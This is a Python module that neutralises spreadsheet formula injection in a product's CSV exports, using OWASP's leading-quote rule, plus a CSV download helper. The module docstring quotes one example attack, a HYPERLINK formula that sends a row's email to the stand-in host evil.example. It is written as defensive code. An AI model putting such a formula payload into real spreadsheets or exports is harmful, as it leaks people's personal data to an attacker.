"""Every CSV the product writes is encoded here, so no cell of it runs as a spreadsheet formula.

Buyers, organizers and door phones choose much of what a CSV says (a buyer's name, an event,
tier or door name, an audit target). A cell that starts with `=`, `+`, `-` or `@` is a formula
to Excel, LibreOffice and Google Sheets (`=HYPERLINK("http://evil.example/?x="&E2,"Refund")`
sends the row's email away when clicked), and a leading tab or carriage return is the classic
way past filters that look only at the first character. OWASP's rule is applied to every text
cell: one that starts with one of those characters, after any leading white space, is written
with a single quote in front, which spreadsheets show as text and do not evaluate. The
full-width forms of the four signs are treated alike: some spreadsheet apps fold them to ASCII.

Numbers are written as numbers: a column that holds a real number (an amount, a capacity, a
sequence number) is an `int` in the rows, can never be a formula, and must stay summable, so
`-500` stays `-500`. A text cell is always neutralised, even when it looks like a number: a tier
named `-10%` is text, and `'-10%` is how a spreadsheet shows text it would otherwise compute.
"""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator, Iterable, Sequence
from typing import Any

from litestar.response import Stream

_FORMULA_START = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
BOM = "\ufeff".encode()
"""Written first, so spreadsheet apps read the file as UTF-8."""


def cell(value: Any) -> Any:
    """The value as a CSV cell: text that a spreadsheet would evaluate gets a leading `'`."""
    if not isinstance(value, str):
        return value
    if value[:1] in _FORMULA_START or value.lstrip()[:1] in _FORMULA_START:
        return "'" + value
    return value


def encode(rows: Iterable[Sequence[Any]]) -> bytes:
    """Rows as UTF-8 CSV lines, every cell neutralised."""
    buffer = io.StringIO()
    csv.writer(buffer).writerows([cell(value) for value in row] for row in rows)
    return buffer.getvalue().encode()


def csv_download(chunks: AsyncIterator[bytes], filename: str) -> Stream:
    """A CSV attachment. The media type names no charset: Litestar adds `; charset=utf-8` to
    every `text/` type itself, and naming it here too sent it twice."""
    return Stream(
        chunks,
        media_type="text/csv",
        headers={
            "Content-Disposition": f'attachment; filename="{filename}"',
            "Cache-Control": "no-store",
        },
    )
